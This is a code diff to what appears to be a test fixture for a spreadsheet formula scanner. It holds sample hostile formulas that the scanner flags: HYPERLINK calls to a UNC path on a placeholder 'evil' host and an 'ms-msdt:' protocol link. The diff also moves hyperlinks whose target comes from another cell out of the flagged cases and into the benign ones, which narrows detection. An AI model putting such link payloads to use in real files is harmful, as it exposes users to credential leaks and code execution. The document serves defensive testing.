@@ -47,9 +47,6 @@ ACTING = [
     ('HYPERLINK(IF(A1=1,"https://www.gov.cn","\\\\evil\\x"))', LINK),
     ('HYPERLINK("ms-msdt:/id","通知")', LINK),
     ('IF(1,HYPERLINK(("\\\\evil\\x"),"a"),0)', LINK),
-    ("HYPERLINK(A1)", "目标取自别的单元格"),
-    ('HYPERLINK(B2,"查看")', "目标取自别的单元格"),
-    ("HYPERLINK(VLOOKUP(A1,B:C,2,0))", "目标取自别的单元格"),
 ]
 COUNTING = [
     "SUM(A1:A9)",
@@ -66,6 +63,7 @@ COUNTING = [
     'HYPERLINK("#\'"&A2&"\'!A1",A2)',
     'HYPERLINK("#Sheet2!A1","cmd.exe")',
     'HYPERLINK("扫描件\\001.pdf","查看")',
+    'HYPERLINK(B2,"查看")',
     'HYPERLINK("www.cq.gov.com","网站")',
     'TEXT(A1,"WEBSERVICE(")',
     "RECALL(1)",
